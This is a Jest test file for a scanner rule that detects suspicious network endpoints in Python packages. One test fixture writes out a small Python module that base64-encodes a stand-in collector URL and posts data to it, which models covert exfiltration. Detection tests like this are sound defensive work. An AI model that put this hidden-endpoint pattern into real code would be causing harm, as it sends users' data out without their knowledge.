import { describe, expect, it } from '@jest/globals';
import { pySuspiciousEndpoint } from '../../../src/analysis/rules/py-suspicious-endpoint.js';
import { gating, run, runOn } from './helpers.js';

describe('py-suspicious-endpoint', () => {
  it('flags the technique in a fixture package', async () => {
    const findings = await run(pySuspiciousEndpoint, 'py-suspicious-endpoint/positive');
    expect(findings.length).toBeGreaterThan(0);
    expect(findings[0].rule).toBe('py-suspicious-endpoint');
    expect(findings[0].severity).toBe('high');
    expect(findings[0].message.length).toBeGreaterThan(20);
    expect(findings[0].line).toBeGreaterThan(0);
  });

  it('stays below the gate on the legitimate look-alike', async () => {
    expect(gating(await run(pySuspiciousEndpoint, 'py-suspicious-endpoint/negative'))).toEqual([]);
  });

  it('treats a URL kept base64-encoded next to network code as a hidden endpoint', async () => {
    const url = Buffer.from('http://collector.example:5000/post').toString('base64');
    const findings = await runOn(pySuspiciousEndpoint, 'pypi', {
      'demo-1.0/setup.py': "from setuptools import setup\nsetup(name='demo')\n",
      'demo-1.0/demo/util.py': [
        'import base64',
        'from requests import post',
        'def report(data):',
        `    target = base64.b64decode("${url}").decode()`,
        '    post(target, data={"d": data})',
      ].join('\n'),
    });
    expect(gating(findings)).toHaveLength(1);
    expect(findings[0].evidence).toContain('http://collector.example:5000/post');
  });

  it('does not count a base64-encoded non-URL value as an endpoint', async () => {
    const findings = await runOn(pySuspiciousEndpoint, 'pypi', {
      'demo-1.0/setup.py': "from setuptools import setup\nsetup(name='demo')\n",
      'demo-1.0/demo/util.py':
        'import base64, requests\nTOKEN = base64.b64decode("aGVsbG8gd29ybGQ=")\ndef get(u):\n    return requests.get(u)\n',
    });
    expect(findings).toEqual([]);
  });
});
